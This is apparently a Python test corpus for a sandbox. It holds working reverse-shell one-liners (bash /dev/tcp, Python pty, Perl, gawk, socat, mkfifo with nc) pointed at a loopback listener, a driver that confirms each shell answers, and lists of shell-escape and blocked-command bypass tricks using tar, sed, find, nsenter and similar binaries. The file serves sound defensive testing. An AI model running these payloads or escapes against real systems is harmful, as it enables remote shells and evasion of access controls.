"""The attack corpus: reverse shells of six families and more, each against a listener
that the driver opens on 127.0.0.1 INSIDE the sandbox (its own network namespace, policy
``none``: nothing leaves it), and blocked programs run from inside allowed ones.

The driver (run in the sandbox) listens, starts the payload with ``PORT`` replaced,
accepts the shell's connection, sends commands and says whether the shell answered: the
attack really works, so a detection is not a test of a broken payload.
"""

from __future__ import annotations

# Each payload an argv; PORT is replaced by the driver's listening port.
REVERSE_SHELLS: dict[str, list[str]] = {
    "bash /dev/tcp": ["bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1"],
    "bash /dev/tcp fd": [
        "bash", "-c",
        'exec 5<>/dev/tcp/127.0.0.1/PORT; cat <&5 | while read l; do eval "$l" 2>&5 >&5; done',
    ],
    "python pty": [
        "python3", "-c",
        "import socket,os,pty;s=socket.socket();s.connect(('127.0.0.1',PORT));"
        "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')",
    ],
    "python subprocess": [
        "python3", "-c",
        "import socket,subprocess;s=socket.socket();s.connect(('127.0.0.1',PORT));"
        "subprocess.call(['/bin/sh','-i'],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())",
    ],
    "perl": [
        "perl", "-e",
        'use Socket;$i="127.0.0.1";$p=PORT;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
        'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");'
        'open(STDERR,">&S");exec("/bin/sh -i");};',
    ],
    "awk /inet": [
        "gawk",
        'BEGIN { s = "/inet/tcp/0/127.0.0.1/PORT"; while (42) { do { printf "> " |& s; s |& getline c;'
        ' if (c) { while ((c |& getline) > 0) print $0 |& s; close(c) } }'
        ' while (c != "exit"); close(s); exit } }',
    ],
    "socat": ["socat", "TCP:127.0.0.1:PORT", "EXEC:/bin/sh"],
    "socat pty": ["socat", "TCP:127.0.0.1:PORT", "EXEC:sh -i,pty,stderr,setsid"],
    "mkfifo + nc": [
        "sh", "-c", "mkfifo /tmp/fPORT; cat /tmp/fPORT | /bin/sh -i 2>&1 | nc 127.0.0.1 PORT > /tmp/fPORT",
    ],
}  # fmt: skip

# Sent to the shell; the answer holds 42 only if a shell evaluated the arithmetic.
PROBE = b"id\necho K2MARK-$((6*7))\n"
ANSWER = b"K2MARK-42"

DRIVER = """\
import json
import os
import signal
import socket
import subprocess
import sys
import time

argv = json.load(open(sys.argv[1]))
srv = socket.socket()
srv.bind(("127.0.0.1", 0))
srv.listen(1)
srv.settimeout(10)
port = srv.getsockname()[1]
p = subprocess.Popen([a.replace("PORT", str(port)) for a in argv], stdin=subprocess.DEVNULL,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
data = b""
try:
    conn, _ = srv.accept()
    conn.settimeout(1)
    time.sleep(0.5)
    conn.sendall(__PROBE__)
    deadline = time.monotonic() + 10
    while __ANSWER__ not in data and time.monotonic() < deadline:
        try:
            chunk = conn.recv(4096)
        except socket.timeout:
            continue
        if not chunk:
            break
        data += chunk
    conn.sendall(b"exit\\n")
    time.sleep(0.3)
finally:
    os.killpg(p.pid, signal.SIGKILL)
print("ANSWERED" if __ANSWER__ in data else "NOANSWER", repr(data[-300:]))
""".replace("__PROBE__", repr(PROBE)).replace("__ANSWER__", repr(ANSWER))

# A blocked program (rm) run from inside allowed ones; VICTIM is a file it tries to delete.
# From the bypasses and public shell-escape collections for binaries in the image.
BLOCKED_FROM_INSIDE: dict[str, str] = {
    "python os.system": "python3 -c 'import os; os.system(\"rm -f VICTIM\")'",
    "python subprocess": "python3 -c 'import subprocess; subprocess.run([\"rm\", \"-f\", \"VICTIM\"])'",
    "python execv": "python3 -c 'import os; os.execv(\"/usr/bin/rm\", [\"cleanup\", \"-f\", \"VICTIM\"])'",
    "awk system()": "awk 'BEGIN { system(\"rm -f VICTIM\") }'",
    "gawk system()": "gawk 'BEGIN { system(\"rm -f VICTIM\") }'",
    "perl exec": "perl -e 'exec \"rm\", \"-f\", \"VICTIM\"'",
    "perl system": "perl -e 'system(\"rm -f VICTIM\")'",
    "sed e": "sed -n '1e rm -f VICTIM' /work/notes.txt",
    "tar checkpoint-action": (
        "tar cf /dev/null /work/notes.txt --checkpoint=1 --checkpoint-action=exec='rm -f VICTIM'"
    ),
    "run-parts": "run-parts --regex '^rm$' --arg=-f --arg=VICTIM /usr/bin",
    "script -c": "script -q -c 'rm -f VICTIM' /dev/null",
    "nsenter": "nsenter rm -f VICTIM",
    "choom": "choom -n 0 -- rm -f VICTIM",
    "find -exec": "find /work -name notes.txt -exec rm -f VICTIM ';'",
    "xargs": "echo VICTIM | xargs rm -f",
    "env": "env rm -f VICTIM",
    "timeout": "timeout 5 rm -f VICTIM",
    "setsid": "setsid -w rm -f VICTIM",
    "symlink in /tmp": "ln -sf /usr/bin/rm /tmp/cleanup && /tmp/cleanup -f VICTIM",
}  # fmt: skip

# With the shells blocked: shell escapes of binaries in the python image (the 13
# that got a shell, and more of the same kind). Run as argv (no shell in between).
SHELL_ESCAPES: dict[str, str] = {
    "nsenter": "nsenter /bin/sh",
    "choom": "choom -n 0 /bin/sh",
    "perl exec": "perl -e 'exec \"/bin/sh\";'",
    "sed e": "sed -n '1e exec /bin/sh 1>&0' /work/notes.txt",
    "tar checkpoint-action": (
        "tar cf /dev/null /work/notes.txt --checkpoint=1 --checkpoint-action=exec=/bin/sh"
    ),
    "run-parts": "run-parts --new-session --regex '^sh$' /bin",
    "script": "script -q /dev/null",
    "python pty": "python3 -c 'import pty; pty.spawn(\"/bin/sh\")'",
    "python os.system": "python3 -c 'import os; os.system(\"id\")'",
    "awk system()": "awk 'BEGIN { system(\"/bin/sh\") }'",
    "env": "env /bin/sh",
    "find -exec": "find /work -name notes.txt -exec /bin/sh ';' -quit",
    "xargs": "xargs -a /dev/null sh",
    "timeout": "timeout 5 /bin/sh",
    "setsid": "setsid -w /bin/sh",
    "flock": "flock -u /work /bin/sh",
    "ionice": "ionice /bin/sh",
    "nice": "nice /bin/sh",
    "stdbuf": "stdbuf -i0 /bin/sh",
    "taskset": "taskset 1 /bin/sh",
    "setarch": "setarch x86_64 /bin/sh",
    "prlimit": "prlimit --nofile=100 /bin/sh",
    "bash by path": "/usr/bin/bash -c id",
    "dash by path": "/usr/bin/dash -c id",
    "rbash": "rbash -c id",
}  # fmt: skip
